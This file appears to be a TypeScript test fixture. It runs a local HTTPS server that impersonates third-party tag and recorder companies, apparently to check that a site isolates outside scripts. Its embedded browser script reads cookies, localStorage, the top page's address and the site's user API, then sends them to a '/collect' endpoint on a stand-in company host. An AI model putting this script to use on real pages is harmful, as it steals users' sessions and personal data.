import { once } from 'node:events';
import type { IncomingHttpHeaders } from 'node:http';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import { selfSigned } from '../app/self-signed.ts';

/** Hosts of the companies whose scripts the brand `kroon` has; they lead to this machine in a browser that is told so. */
export const tagHost = 'tags.company.example';
export const recorderHost = 'recorder.company.example';

/** One request that came to a company. */
interface Heard {
  host: string;
  url: URL;
  headers: IncomingHttpHeaders;
}

export interface OutsideCompany {
  port: number;
  heard: Heard[];
  /** What its scripts have told it, by script, the oldest first. */
  told(host: string): Record<string, string>[];
  close(): Promise<void>;
}

/**
 * A script that tells everything that it gets hold of: the nastiest tag and the nastiest recorder. Stands in a page as its own
 * source, so it may use nothing from outside.
 */
const script = `(() => {
  const self = document.currentScript;
  const attempt = (look) => { try { return String(look()); } catch { return 'refused'; } };
  const facts = {
    page: self.dataset.page ?? '',
    site: self.dataset.site ?? '',
    address: location.href,
    referrer: document.referrer,
    cookies: attempt(() => document.cookie),
    storage: attempt(() => JSON.stringify({ ...localStorage })),
    around: attempt(() => top.document.body.textContent.length),
    above: attempt(() => top.location.href),
  };
  attempt(() => { document.cookie = '_outside=1; Max-Age=99999; Path=/'; });
  const tell = (api) => fetch(new URL('/collect?' + new URLSearchParams({ ...facts, api }), self.src));
  fetch('/api/user.php', { headers: { 'x-request-type': 'client' } })
    .then((answer) => answer.text(), () => 'refused')
    .then(tell);
})();`;

/** Starts the server of both companies. */
export async function startOutsideCompany(): Promise<OutsideCompany> {
  const heard: Heard[] = [];
  const server = https.createServer(selfSigned('company.example'), (request, response) => {
    const host = request.headers.host?.split(':')[0] ?? '';
    const url = new URL(request.url ?? '/', `https://${host}`);
    heard.push({ host, url, headers: request.headers });
    const isScript = url.pathname.endsWith('.js');
    response.writeHead(isScript ? 200 : 204, {
      'access-control-allow-origin': '*',
      'access-control-allow-headers': '*',
      'content-type': 'text/javascript',
    });
    response.end(isScript ? script : undefined);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    heard,
    told: (host) =>
      heard
        .filter((one) => one.host === host && one.url.pathname === '/collect')
        .map(({ url }) => Object.fromEntries(url.searchParams)),
    async close() {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}
